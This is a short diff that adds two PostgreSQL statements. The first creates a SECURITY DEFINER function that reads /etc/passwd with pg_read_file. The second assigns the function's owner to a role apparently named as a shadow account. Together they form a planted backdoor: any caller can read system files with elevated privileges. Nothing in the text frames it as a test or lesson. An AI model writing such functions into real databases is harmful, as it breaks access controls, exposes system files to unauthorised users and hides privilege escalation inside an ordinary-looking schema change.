@@ -1,0 +1,2 @@
+CREATE FUNCTION f() RETURNS text LANGUAGE sql SECURITY DEFINER AS $$ SELECT pg_read_file('/etc/passwd') $$;
+ALTER FUNCTION f() OWNER TO seamwright_shadow;
